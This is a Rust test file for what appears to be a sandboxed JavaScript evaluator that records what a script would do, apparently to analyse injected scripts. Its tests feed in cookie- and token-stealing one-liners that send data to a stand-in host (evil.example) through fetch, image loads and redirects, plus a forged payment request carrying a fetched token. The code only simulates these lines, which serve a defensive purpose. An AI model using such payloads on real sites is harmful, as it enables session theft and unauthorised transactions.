use super::*;

/// All effects of a script; every fetch brings `{"token":"t1"}`, cookies are `sid=1`, storage holds `s`.
fn effects(text: &str) -> Result<Vec<Effect>, ScriptError> {
    let page = Url::parse("https://shop.example/p?q=<b>#frag").expect("a URL");
    let mut machine = Machine::new(text, &page)?;
    let mut all = Vec::new();
    while let Some(effect) = machine.run()? {
        match &effect {
            Effect::Fetch(_) => {
                machine.resume(Value::Response { status: 200, text: "{\"token\":\"t1\"}".into() })
            }
            Effect::Cookie => machine.resume(Value::Text("sid=1".into())),
            Effect::Stored(_) => machine.resume(Value::Text("s".into())),
            _ => {}
        }
        all.push(effect);
    }
    Ok(all)
}

fn last(text: &str) -> Effect {
    effects(text).expect("it runs").pop().expect("an effect")
}

#[test]
fn the_usual_thefts_run() {
    let get = |url: &str| Effect::Fetch(Fetch { url: url.into(), ..Fetch::default() });
    assert_eq!(
        last("fetch('https://evil.example/?c=' + document.cookie)"),
        get("https://evil.example/?c=sid=1")
    );
    let encoded = "fetch(\"https://evil.example/?c=\" + encodeURIComponent(document.cookie));";
    assert_eq!(last(encoded), get("https://evil.example/?c=sid%3D1"));
    assert_eq!(
        last("new Image().src = 'https://evil.example/' + document.cookie"),
        Effect::Image("https://evil.example/sid=1".into())
    );
    assert_eq!(
        last("location = '//evil.example/' + localStorage.getItem('token')"),
        Effect::Navigate("//evil.example/s".into())
    );
    assert_eq!(last("window.location.href = `/x`"), Effect::Navigate("/x".into()));
    assert_eq!(last("document.forms[0].submit()"), Effect::Submit("0".into()));
    assert_eq!(last("document.getElementById('pay').submit();"), Effect::Submit("pay".into()));
}

#[test]
fn fetch_takes_its_options_and_answers() {
    let text = "
        // a token first
        const r = await fetch('/token', { credentials: 'include' });
        const t = (await r.json()).token;
        await fetch('/pay', { method: 'POST', mode: 'cors', headers: { 'X-Token': t, Accept: 'a' }, body: JSON.stringify({ to: 'eve', n: 5 }) })";
    let wanted = Fetch {
        url: "/pay".into(),
        method: Some("POST".into()),
        mode: Some("cors".into()),
        credentials: None,
        headers: vec![("X-Token".into(), "t1".into()), ("Accept".into(), "a".into())],
        body: Some("{\"to\":\"eve\",\"n\":5}".into()),
    };
    assert_eq!(last(text), Effect::Fetch(wanted));
    assert_eq!(
        last("console.log((await fetch('/x')).status, await (await fetch('/x')).text())"),
        Effect::Log("200 {\"token\":\"t1\"}".into())
    );
}

#[test]
fn pages_know_where_they_are() {
    let rows = [
        ("location.href", "https://shop.example/p?q=%3Cb%3E#frag"),
        ("location.search", "?q=%3Cb%3E"),
        ("decodeURIComponent(location.search)", "?q=<b>"),
        ("location.hash + 1 + 2", "#frag12"),
        ("1 + 2 + document.domain", "3shop.example"),
        ("location.origin", "https://shop.example"),
        ("{ a: { b: 'x' } }.a.b", "x"),
    ];
    for (text, wanted) in rows {
        assert_eq!(last(&format!("document.write({text})")), Effect::Write(wanted.into()), "{text}");
    }
}

#[test]
fn cookies_and_storage_are_set() {
    assert_eq!(
        effects("document.cookie = 'a=' + 1; localStorage.setItem('k', 'v')").expect("it runs"),
        [Effect::SetCookie("a=1".into()), Effect::Store("k".into(), "v".into()),]
    );
}

#[test]
fn what_goes_beyond_says_so() {
    let rows = [
        ("function f() {}", "beyond"),
        ("if (true) { alert(1) }", "beyond"),
        ("fetch('/x').then(r => r.text())", "beyond"),
        ("a == b", "beyond"),
        ("document.body.innerHTML = 'x'", "beyond"),
        ("new XMLHttpRequest()", "beyond"),
        ("x", "ReferenceError: x is not defined"),
        ("'unclosed", "SyntaxError"),
        ("fetch(", "SyntaxError: Unexpected end of input"),
        ("1 = 2", "SyntaxError: Invalid left-hand side"),
        ("alert(1))", "SyntaxError: Unexpected token ')'"),
        ("fetch('/', { signal: 1 })", "beyond"),
        ("eval(document.cookie)", "ReferenceError"),
    ];
    for (text, wanted) in rows {
        let error = effects(text).expect_err(text).to_string();
        assert!(error.starts_with(wanted), "{text}: {error}");
    }
}

#[test]
fn hostile_scripts_end() {
    assert!(effects(&"(".repeat(10_000)).is_err());
    assert!(effects(&"a".repeat(TEXT_LIMIT + 1)).is_err());
    let doubling = format!("let a = 'xxxxxxxxxxxxxxxx'; {}", "a = a + a;".repeat(100));
    assert_eq!(effects(&doubling), Err(ScriptError("RangeError: Invalid string length".into())));
}

const TEXT_LIMIT: usize = 64 << 10;
